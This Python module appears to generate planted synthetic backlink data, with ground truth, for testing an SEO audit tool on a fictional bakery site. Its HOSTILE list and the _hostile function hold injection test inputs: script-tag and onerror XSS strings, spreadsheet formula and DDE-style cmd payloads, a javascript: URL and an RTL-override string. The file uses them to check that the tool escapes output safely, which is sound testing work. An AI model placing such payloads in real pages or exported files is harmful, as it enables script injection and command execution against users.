"""What is hidden in the world for the audit to find. `Planted.truth` goes to truth.json."""

from collections.abc import Mapping, Sequence
from dataclasses import dataclass, replace
from datetime import datetime, timedelta

from demo import words
from demo.world import END, Dice, Domain, Link, month_start, page

Truth = Mapping[str, object]
AUDITED = frozenset({"audit"})  # the Semrush audit sees hosts the Semrush backlink index does not list
BIG = frozenset({"ahrefs", "semrush", "audit"})
NETWORK_DOMAINS = 60
NETWORK_TONGUES = ("www", "de", "fr", "es", "pt", "zh-tw", "uk", "it")
NETWORK_PATH = "/stats/904417"
NETWORK_TITLE = f"Backlinks for {words.SITE}"
BURST_MONTHS = (datetime(2026, 3, 1), datetime(2026, 4, 1))
BURST_DOMAINS = 45
LOST_MONTH = datetime(2026, 7, 1)
LOST_DOMAINS = 28
SITEWIDE_PAGES = 430
HOSTILE = (
    ("<script>alert('demo')</script>", "Totally normal page"),
    ('"><img src=x onerror=alert(1)>', "</title><script>alert(2)</script>"),
    ('=HYPERLINK("http://phish.invalid/?x="&A1,"Harbour Bakery")', '=HYPERLINK("http://phish.invalid","open")'),
    ("+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("Harbour\u202eyrekaB", "A title\nover two lines"),
)


@dataclass(frozen=True)
class Planted:
    """Links that were hidden, and what an audit should say of them."""

    links: tuple[Link, ...]
    truth: Truth


def planted(dice: Dice) -> dict[str, Planted]:
    """Return everything hidden, by name."""
    return {
        "template_network": _network(dice),
        "burst": _burst(dice),
        "sitewide": _sitewide(dice),
        "mirror": _mirror(dice),
        "broken_page": _broken(dice),
        "lost_cluster": _lost_cluster(dice),
        "hostile": _hostile(dice),
    }


def _network(dice: Dice) -> Planted:
    links: list[Link] = []
    for index in range(NETWORK_DOMAINS):
        label = dice.pick(("stat", "site", "rank", "web", "host")) + dice.pick(("bio", "list", "peek"))
        name = f"{label}{index:02d}.example"
        ip = f"198.51.100.{dice.whole(10, 250)}"
        domain = Domain(name, "network", "en", "us", ip, 0.0, 0.97, BIG if index % 4 == 0 else AUDITED)
        born = dice.moment(month_start(10 + index // 3), month_start(11 + index // 3))
        for tongue in NETWORK_TONGUES[index % 3 :][:4]:
            first = min(END, born + timedelta(days=dice.whole(0, 3)))
            url = f"https://{tongue}.{name}{NETWORK_PATH}"
            target = f"https://{words.SITE}/"
            link = Link(domain, url, NETWORK_TITLE, target, NETWORK_TITLE, first, seen_by=domain.seen_by)
            links.append(replace(link, external_links=400))
    truth = {
        "signal": "template-network",
        "domains": sorted({link.domain.name for link in links}),
        "hosts": len(links),
        "path": NETWORK_PATH,
        "title": NETWORK_TITLE,
    }
    return Planted(tuple(links), truth)


def _burst(dice: Dice) -> Planted:
    links = []
    for index in range(BURST_DOMAINS):
        label = dice.pick(("best", "top", "my", "the")) + dice.pick(("deals", "review", "offers", "picks"))
        name = f"{label}-{dice.pick(('daily', 'zone', 'point', 'world'))}{index + 11}.example"
        ip = f"203.0.113.{dice.whole(2, 250)}" if index % 3 else f"192.0.2.{dice.whole(2, 250)}"
        known = frozenset({"ahrefs"} | ({"semrush", "audit"} if index % 5 else set()))
        domain = Domain(name, "editorial", "en", "us", ip, 1.0 + index % 7, 0.8, known)
        month = BURST_MONTHS[index % 2]
        first = dice.moment(month + timedelta(days=1), month + timedelta(days=24))
        title, url = page(dice, domain, first)
        anchor = words.BURST_ANCHOR
        links.append(Link(domain, url, title, f"{words.HOME}shop/", anchor, first, seen_by=known))
    truth = {
        "signal": "first-seen-burst",
        "domains": sorted(link.domain.name for link in links),
        "months": [month.strftime("%Y-%m") for month in BURST_MONTHS],
        "anchor": words.BURST_ANCHOR,
        "anchor_signal": "repeated-money-anchor",
        "address_signal": "shared-subnet-excess",
    }
    return Planted(tuple(links), truth)


def _sitewide(dice: Dice) -> Planted:
    known = frozenset({"ahrefs", "semrush", "majestic", "moz", "gsc", "audit"})
    domain = Domain("quayside-events.example", "e-commerce", "en", "gb", "198.19.44.8", 24.0, 0.05, known)
    links = []
    for index in range(SITEWIDE_PAGES):
        url = f"https://www.{domain.name}/events/{2024 + index % 3}/{index + 100}/"
        first = dice.moment(datetime(2024, 5, 2), datetime(2026, 9, 1))
        link = Link(domain, url, f"Event {index + 100} - Quayside Events", words.HOME, words.BRAND, first)
        partly = known if index < 120 else frozenset({"semrush", "majestic"})
        links.append(replace(link, sitewide=True, external_links=9, seen_by=partly))
    truth = {
        "signal": "sitewide-links",
        "domain": domain.name,
        "pages": SITEWIDE_PAGES,
        "anchor": words.BRAND,
    }
    return Planted(tuple(links), truth)


def _mirror(dice: Dice) -> Planted:
    links = []
    names = ("breadatlas.example", "breadatlas.test", "breadatlas.invalid")
    for index, name in enumerate(names):
        known = frozenset({"ahrefs", "semrush", "audit", "majestic"})
        domain = Domain(name, "editorial", "en", "gb", f"198.18.90.{index + 4}", 31.0, 0.0, known)
        for town in words.TOWNS[:5]:
            url = f"https://{name}/bakeries/{town}"
            first = dice.moment(datetime(2024, 9, 1), datetime(2025, 9, 1))
            title = f"Bread Atlas: bakeries around {town.title()}"
            links.append(Link(domain, url, title, words.HOME, words.BRAND, first, seen_by=known))
    return Planted(tuple(links), {"domains": list(names)})


def _broken(dice: Dice) -> Planted:
    links = []
    for index in range(14):
        known = frozenset({"ahrefs", "dataforseo"} | ({"semrush", "majestic"} if index % 2 else set()))
        name = f"{dice.pick(('rye', 'spelt', 'starter'))}-{dice.pick(('club', 'circle', 'forum'))}{index + 3}.example"
        ip = f"198.19.{60 + index}.7"
        domain = Domain(name, "editorial", "en", "gb", ip, 12.0 + index, 0.02, known)
        first = dice.moment(datetime(2023, 12, 1), datetime(2025, 6, 1))
        title, url = page(dice, domain, first)
        anchor = dice.pick(("rye starter guide", "guide to rye starters", "Harbour Bakery's rye guide"))
        links.append(Link(domain, url, title, words.BROKEN_PAGE, anchor, first, seen_by=known))
    truth = {
        "signal": "broken-own-pages",
        "page": words.BROKEN_PAGE,
        "http_code": 404,
        "domains": sorted(link.domain.name for link in links),
    }
    return Planted(tuple(links), truth)


def _lost_cluster(dice: Dice) -> Planted:
    links = []
    for index in range(LOST_DOMAINS):
        known = frozenset({"ahrefs"} | ({"semrush", "audit"} if index % 3 == 0 else set()))
        name = (
            f"{dice.pick(('coast', 'ferry', 'pier', 'dune'))}{dice.pick(('news', 'press', 'wire'))}{index + 5}.example"
        )
        ip = f"198.19.{120 + index}.21"
        domain = Domain(name, "news", "en", "gb", ip, 9.0 + index, 0.04, known)
        first = dice.moment(datetime(2023, 12, 1), datetime(2025, 11, 1))
        title, url = page(dice, domain, first)
        lost = dice.moment(LOST_MONTH + timedelta(days=2), LOST_MONTH + timedelta(days=27))
        link = Link(domain, url, title, words.HOME, words.BRAND, first, lost, "pageredirected", seen_by=known)
        links.append(link)
    truth = {
        "signal": "lost-link-cluster",
        "month": LOST_MONTH.strftime("%Y-%m"),
        "reason": "the page or the link now leads elsewhere",
        "domains": sorted(link.domain.name for link in links),
    }
    return Planted(tuple(links), truth)


def _hostile(dice: Dice) -> Planted:
    links = []
    for index, (anchor, title) in enumerate(HOSTILE):
        name = f"trickster{index + 1}.example"
        domain = Domain(name, "editorial", "en", "us", f"198.18.200.{index + 9}", 3.0, 0.9, BIG)
        first = dice.moment(datetime(2025, 2, 1), datetime(2026, 2, 1))
        url = f"https://{name}/post/{index}?q=<b>{index}</b>&next=javascript:alert({index})"
        links.append(Link(domain, url, title, words.HOME, anchor, first, seen_by=BIG))
    truth = {"domains": [link.domain.name for link in links], "anchors": [anchor for anchor, _ in HOSTILE]}
    return Planted(tuple(links), truth)


def with_audit(links: Sequence[Link], dice: Dice) -> tuple[Link, ...]:
    """Return the links with those the Semrush audit sees: most of what the Semrush index knows, and some more."""
    return tuple(
        replace(link, seen_by=link.seen_by | AUDITED)
        if dice.chance(0.9 if "semrush" in link.seen_by else 0.22)
        else link
        for link in links
    )
